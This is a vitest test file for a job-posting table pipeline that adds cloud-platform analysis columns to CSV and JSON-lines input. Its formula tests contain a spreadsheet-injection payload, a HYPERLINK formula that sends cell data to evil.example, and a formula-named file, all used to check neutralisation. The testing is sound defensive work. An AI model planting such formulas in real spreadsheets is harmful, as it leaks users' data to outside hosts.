// The table pipeline in this thread: row for row, in order, input cells unchanged, certfit's
// cells safe for spreadsheets, and the same portfolio summary as the ordinary analyse path.
import { mkdtempSync, readdirSync, readFileSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { parse } from 'csv-parse/sync';
import { beforeAll, describe, expect, it } from 'vitest';
import { analyzePosting, buildResult, createAnalyzer, DuplicateTracker, errorResult, type Analyzer } from '../src/analyze.js';
import { ingest } from '../src/ingest/index.js';
import type { PostingResult } from '../src/model.js';
import { CERTFIT_COLUMNS } from '../src/table/analyze-row.js';
import { createTableReader } from '../src/table/ingest-adapter.js';
import { runTable, type RunTableOptions } from '../src/table/run-table.js';
import type { Sink } from '../src/table/sink.js';

const FIX = 'fixtures/table';
const tmp = mkdtempSync(join(tmpdir(), 'certfit-table-pipe-'));
const ASOF = '2026-01-15';
const W = CERTFIT_COLUMNS.length;
let analyzer: Analyzer;

beforeAll(() => {
  analyzer = createAnalyzer({ asOf: ASOF });
});

function memorySink(): Sink & { text: () => string } {
  let out = '';
  return { closed: false, write: async (s) => void (out += typeof s === 'string' ? s : Buffer.from(s).toString('utf8')), commit: async () => {}, abort: () => {}, text: () => out };
}

async function run(source: string, extra: Partial<RunTableOptions> = {}) {
  const sink = memorySink();
  const warnings: string[] = [];
  const result = await runTable({
    source, table: {}, output: 'csv', analyzer: { asOf: ASOF }, prebuilt: analyzer, jobs: 1, sanitizeFormulas: false,
    sink: () => sink, warn: (m) => warnings.push(m), ...extra,
  });
  return { result, out: sink.text(), warnings };
}

const parseCsv = (text: string, delimiter = ','): string[][] => parse(text, { delimiter, relax_column_count: true, relax_quotes: true, bom: true });
const inputRows = (path: string, delimiter = ','): string[][] => parseCsv(readFileSync(path, 'utf8'), delimiter);

/** The ordinary path: ingest (with the table reader) → analyzePosting → DuplicateTracker → buildResult. */
async function ordinarySummary(path: string) {
  const dups = new DuplicateTracker();
  const results: PostingResult[] = [];
  for await (const item of ingest([path], { tableReader: createTableReader() })) {
    if (item.ok) {
      const r = analyzePosting(analyzer, item.posting);
      dups.mark(r, item.posting.text);
      results.push(r);
    } else results.push(errorResult(item.source, item.error));
  }
  return buildResult(analyzer, results).summary;
}

describe('csv out', () => {
  it('writes one row per input row, in order, input cells unchanged, certfit cells filled', async () => {
    const { out, result } = await run(`${FIX}/basic.csv`);
    const input = inputRows(`${FIX}/basic.csv`);
    const output = parseCsv(out);
    expect(output).toHaveLength(input.length);
    expect(output[0]).toEqual([...input[0], ...CERTFIT_COLUMNS]);
    output.slice(1).forEach((row, i) => expect(row.slice(0, input[0].length)).toEqual(input[i + 1]));
    const col = (name: string) => output.slice(1).map((r) => r[input[0].length + CERTFIT_COLUMNS.indexOf(name as (typeof CERTFIT_COLUMNS)[number])]);
    expect(col('certfit_status')).toEqual(['ok', 'ok', 'ok', 'ok', 'empty', 'ok']);
    expect(col('certfit_platform').slice(0, 3)).toEqual(['aws', 'azure', 'gcp']);
    expect(col('certfit_duplicate_of')[5]).toBe('101');
    expect(col('certfit_error')[4]).toMatch(/^EMPTY_ROW: row 5 has no posting text/);
    expect(result.summary).toMatchObject({ inputs: 6, analysed: 5, failed: 0, empty: 1, duplicates: 1 });
  });

  it('gives the same portfolio summary as the ordinary analyse path', async () => {
    const { result } = await run(`${FIX}/basic.csv`);
    expect(result.summary).toEqual(await ordinarySummary(`${FIX}/basic.csv`));
  });

  it('gives the same portfolio summary on the example postings', async () => {
    const dir = 'fixtures/examples';
    const texts = readdirSync(dir).sort().map((f) => readFileSync(join(dir, f), 'utf8'));
    const rows = [...texts, ...texts.slice(0, 2), '', ...texts.reverse()].map((t, i) => [`Posting ${i}`, t]);
    const q = (c: string) => `"${c.replace(/"/g, '""')}"`;
    const path = join(tmp, 'examples.csv');
    writeFileSync(path, ['title,description', ...rows.map((r) => r.map(q).join(','))].join('\n'));
    const { result } = await run(path);
    expect(result.summary).toEqual(await ordinarySummary(path));
  });

  it('keeps ragged rows: short ones padded, long ones’ extra cells after certfit’s', async () => {
    const { out, warnings } = await run(`${FIX}/ragged.csv`);
    const output = parseCsv(out);
    expect(output.map((r) => r.length)).toEqual([3 + W, 3 + W, 3 + W + 2, 3 + W]);
    expect(output[2].slice(-2)).toEqual(['extra cell', 'another']);
    expect(warnings.join('\n')).toMatch(/2 row\(s\) have a different number of cells/);
  });

  it('an unterminated quote at the end becomes one error row after the good ones', async () => {
    const { out, result } = await run(`${FIX}/unterminated.csv`);
    const output = parseCsv(out);
    expect(output).toHaveLength(4);
    expect(output.map((r) => r[2])).toEqual(['certfit_status', 'ok', 'ok', 'error']);
    expect(output[3][2 + CERTFIT_COLUMNS.indexOf('certfit_error')]).toMatch(/^CSV_UNTERMINATED_QUOTE/);
    expect(result.summary.failed).toBe(1);
  });
});

describe('formulas', () => {
  const unsafe = /^[=+\-@\t\r]/;

  it('neutralises formulas in certfit cells, and leaves input cells alone by default', async () => {
    // A file name that is itself a formula reaches certfit_duplicate_of.
    const path = '=HYPERLINK.csv';
    writeFileSync(join(tmp, path), `${readFileSync(`${FIX}/formulas.csv`, 'utf8')}dup,Acme,"-2 Uses SageMaker and AWS Glue ETL.",x\n`);
    const cwd = process.cwd();
    process.chdir(tmp);
    let out: string;
    try {
      ({ out } = await run(path));
    } finally {
      process.chdir(cwd);
    }
    const output = parseCsv(out);
    const width = 4;
    for (const row of output.slice(1)) for (const c of row.slice(width)) expect(c).not.toMatch(unsafe);
    expect(output[3][width + CERTFIT_COLUMNS.indexOf('certfit_duplicate_of')]).toBe(`'${path}#1`);
    expect(output.slice(1).map((r) => r.slice(0, width))).toEqual(parseCsv(readFileSync(join(tmp, path), 'utf8')).slice(1));
  });

  it('with --sanitize-formulas neutralises passed-through cells too', async () => {
    const { out } = await run(`${FIX}/formulas.csv`, { sanitizeFormulas: true });
    const output = parseCsv(out);
    for (const row of output) for (const c of row) expect(c).not.toMatch(unsafe);
    expect(output[1].slice(0, 4)).toEqual(['\'=HYPERLINK("http://evil.example/?x="&A1)', "'+1", "'-2 Uses SageMaker and AWS Glue ETL.", "'@SUM(A1:A2)"]);
    expect(output[2][0]).toBe("'\tTabbed");
  });
});

describe('encodings and shapes', () => {
  it('a semicolon-delimited UTF-16LE copy with a BOM scores the same as the UTF-8 original', async () => {
    const input = inputRows(`${FIX}/basic.csv`);
    const q = (c: string) => (/[";\r\n]/.test(c) ? `"${c.replace(/"/g, '""')}"` : c);
    const path = join(tmp, 'basic-excel.csv');
    writeFileSync(path, Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(input.map((r) => r.map(q).join(';')).join('\r\n') + '\r\n', 'utf16le')]));
    const a = await run(`${FIX}/basic.csv`);
    const b = await run(path);
    expect(b.out.startsWith('\ufeff')).toBe(true);
    expect(b.out).toContain('\r\n');
    const rowsA = parseCsv(a.out);
    const rowsB = parseCsv(b.out, ';');
    const dup = input[0].length + CERTFIT_COLUMNS.indexOf('certfit_duplicate_of');
    const strip = (rows: string[][]) => rows.map((r) => r.filter((_, i) => i !== dup));
    expect(strip(rowsB)).toEqual(strip(rowsA));
    expect(b.result.summary).toEqual(a.result.summary);
  });

  it('reads JobSpy’s 34 columns and Glassdoor’s export', async () => {
    const jobspy = parseCsv((await run(`${FIX}/jobspy-34.csv`)).out);
    expect(jobspy[0]).toHaveLength(34 + W);
    expect(jobspy.slice(1).map((r) => r[34])).toEqual(['ok', 'ok', 'empty']);
    expect(jobspy[1][35]).toBe('aws');
    const glassdoor = parseCsv((await run(`${FIX}/glassdoor.csv`)).out);
    expect(glassdoor.slice(1).map((r) => [r[15], r[16]])).toEqual([['ok', 'aws'], ['ok', 'gcp']]);
  });

  it('reads HTML cells and Windows-1252 files', async () => {
    const html = parseCsv((await run(`${FIX}/html-cells.csv`)).out);
    expect(html.slice(1).map((r) => r[7])).toEqual(['azure', 'aws', expect.any(String)]);
    const cp = await run(`${FIX}/cp1252.csv`);
    expect(cp.out).not.toContain('\ufffd');
    expect(cp.out).toContain('We’re hiring: “MLOps” on SageMaker — budget €50k');
  });

  it('scores a 10 MB cell', async () => {
    // Mostly prose, as a real oversized cell would be; a mention-dense 10 MB posting is a matcher stress test.
    const big = `${'Our team values ownership, "written" communication and steady delivery across time zones.\n'.repeat(199)}We build models on SageMaker; ETL runs in AWS Glue with Athena.\n`.repeat(600);
    expect(big.length).toBeGreaterThan(10_000_000);
    const path = join(tmp, 'big.csv');
    writeFileSync(path, `title,description\nBig,"${big.replace(/"/g, '""')}"\nSmall,Azure Machine Learning\n`);
    const output = parseCsv((await run(path)).out);
    expect(output).toHaveLength(3);
    expect(output[1][1]).toBe(big);
    expect([output[1][2], output[1][3], output[2][3]]).toEqual(['ok', 'aws', 'azure']);
  }, 120_000);
});

describe('ndjson out', () => {
  it('writes one posting object per row in order, then the summary', async () => {
    const { out } = await run(`${FIX}/basic.csv`, { output: 'ndjson' });
    const lines = out.trimEnd().split('\n').map((l) => JSON.parse(l));
    expect(lines).toHaveLength(7);
    // Ids from the id column; where each row is stays in source.
    expect(lines.slice(0, 6).map((l) => [l.type, l.id, l.source, l.status])).toEqual([1, 2, 3, 4, 5, 6].map((n) => ['posting', String(100 + n), `${FIX}/basic.csv#${n}`, n === 5 ? 'error' : 'ok']));
    expect(lines[5].duplicateOf).toBe('101');
    expect(lines[0].mentions.length).toBeGreaterThan(0);
    expect(lines[6]).toMatchObject({ type: 'summary', inputs: 6, failed: 0, empty: 1, duplicates: 1 });
  });

  it('reads JSON lines, keeping bad lines as error rows', async () => {
    const { out } = await run(`${FIX}/postings.jsonl`, { output: 'ndjson' });
    const lines = out.trimEnd().split('\n').map((l) => JSON.parse(l));
    expect(lines.slice(0, 4).map((l) => l.error?.code ?? l.status)).toEqual(['ok', 'ok', 'JSON_ERROR', 'EMPTY_ROW']);
    expect(lines[0]).toMatchObject({ title: 'ML Platform Engineer', url: 'https://jobs.example.com/a' });
  });
});

